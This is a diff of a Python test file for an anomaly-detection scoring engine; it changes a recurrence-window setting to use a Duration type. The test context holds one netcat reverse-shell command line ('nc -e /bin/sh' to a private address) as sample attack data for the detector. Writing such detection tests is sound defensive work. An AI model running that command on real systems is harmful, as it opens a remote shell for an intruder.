@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import pytest
 
+from core.confmap import Duration
 from scoring import AnomalyEngine, EngineConfig, LearningConfig, ProcessEvent
 from scoring.tests.workloads import ci_job, nginx_restart, web_workload
 
@@ -84,7 +85,7 @@ def test_a_burst_of_one_attack_command_stays_an_alert(engine):
 
 def test_alert_pattern_is_learned_only_after_recurring_in_distinct_windows(tmp_path):
     config = EngineConfig(baselines=str(tmp_path), learning=LearningConfig(recurrence_windows=3,
-                                                                           recurrence_window="1h"))
+                                                                           recurrence_window=Duration("1h")))
     engine = AnomalyEngine(config)
     engine.process(web_workload(300), workload="web")
     backup = ProcessEvent(executable_name="sh", command_line="sh -c nc -e /bin/sh 10.0.0.5 9000",
